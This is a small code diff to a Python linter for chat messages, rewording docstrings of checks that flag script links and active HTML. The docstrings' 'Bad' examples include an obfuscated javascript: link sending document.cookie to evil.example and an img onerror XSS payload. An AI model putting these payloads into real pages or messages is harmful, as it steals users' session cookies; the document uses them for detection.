@@ -66,7 +66,7 @@ def script_in_markdown_link(part: Part, seen: Seen, number: int) -> Iterator[Tol
     `vbscript:`) or a page of its own (`data:text/html`). Entities, blanks and escapes in it do not
     hide it, and what is in code is not a link.
 
-    Why: a viewer that lets it through runs the script in its own name when somebody clicks.
+    Why: a viewer that lets it through runs the script in its own name when the link is clicked.
 
     Bad:
         {"content": "[Reset password](java&#115;cript:fetch('https://evil.example/'+document.cookie))"}
@@ -89,7 +89,7 @@ def active_html(part: Part, seen: Seen, number: int) -> Iterator[Told]:
     Bad:
         {"content": "Look: <img src=x onerror=\\"alert(document.cookie)\\">"}
 
-    Fix: none, because it may be what somebody asked about; put it into a block of code. Talktree's
+    Fix: none, because it may be what the message is about; put it into a block of code. Talktree's
     own viewers show it as text.
     """
     yield from _told(part, seen, "active-html")
